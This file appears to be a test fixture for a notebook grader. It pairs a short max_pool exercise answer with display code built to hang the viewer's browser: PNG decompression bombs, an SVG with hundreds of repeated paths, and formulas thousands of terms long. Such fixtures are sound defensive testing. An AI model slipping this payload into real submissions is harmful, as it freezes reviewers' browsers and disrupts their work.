# lesson: 03_pooling
# exercise: max_pool
# tries: to hold the browser of whoever looks by little that costs much: pictures of 40 million pixels, drawings, one long formula
# wanted: pass
import base64
import struct
import zlib

from IPython.display import HTML, Latex, Markdown, display


def max_pool(features, size, stride):
    return tf.nn.max_pool2d(features[None], size, stride, "VALID")[0].numpy()


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(number):
    rows = zlib.compress(bytes(1001) * 5000, 9)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 8000, 5000, 1, 0, 0, 0, 0)) + chunk(b"tEXt", b"a\0%d" % number)
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")).decode()


path = "<path id='a' d='M0 0{}' stroke='#000' stroke-width='500'/>".format("L9 9L0 9" * 300)
drawing = "<svg xmlns='http://www.w3.org/2000/svg' width='2000' height='2000'>{}{}</svg>".format(path, "<use href='#a'/>" * 300)
display(HTML(f"<img src='data:image/svg+xml;base64,{base64.b64encode(drawing.encode()).decode()}'>"))
display({"image/svg+xml": drawing}, raw=True)
display(Markdown("$" + "x+" * 4000 + "x$"))
display(Latex("$" + "x+" * 4000 + "x$"))
display(HTML("<p>$" + "x+<br>" * 5000 + "x$</p>"))
display(HTML("".join(f"<img src='data:image/png;base64,{png(n)}'>" for n in range(11))))
